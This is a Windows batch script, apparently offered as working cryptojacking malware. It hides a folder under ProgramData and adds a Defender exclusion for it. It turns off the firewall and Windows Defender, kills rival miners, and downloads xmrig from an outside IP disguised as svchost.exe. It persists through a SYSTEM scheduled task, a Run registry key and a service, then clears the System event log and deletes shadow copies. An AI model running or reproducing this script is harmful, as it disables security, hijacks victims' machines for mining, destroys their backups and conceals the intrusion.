@echo off
rem Shape: a batch file that looks away from Defender, ends rivals and keeps a miner in a task.
set DIR=%ProgramData%\WinUpd
set SRC=http://203.0.113.88:8080
mkdir %DIR%
attrib +h +s %DIR%
powershell -Command "Add-MpPreference -ExclusionPath '%DIR%'"
netsh advfirewall set allprofiles state off
sc stop WinDefend
sc config WinDefend start= disabled
taskkill /f /im xmrig.exe
taskkill /f /im minerd.exe
taskkill /f /im nheqminer.exe
schtasks /delete /tn "RivalMiner" /f
certutil -urlcache -split -f %SRC%/xmrig.exe %DIR%\svchost.exe
certutil -urlcache -split -f %SRC%/config.json %DIR%\config.json
schtasks /create /sc minute /mo 10 /tn "WinUpd" /tr "%DIR%\svchost.exe" /ru SYSTEM /f
reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v WinUpd /t REG_SZ /d "%DIR%\svchost.exe" /f
sc create WinUpdSvc binPath= "%DIR%\svchost.exe" start= auto
start /b %DIR%\svchost.exe
wevtutil cl System
vssadmin delete shadows /all /quiet
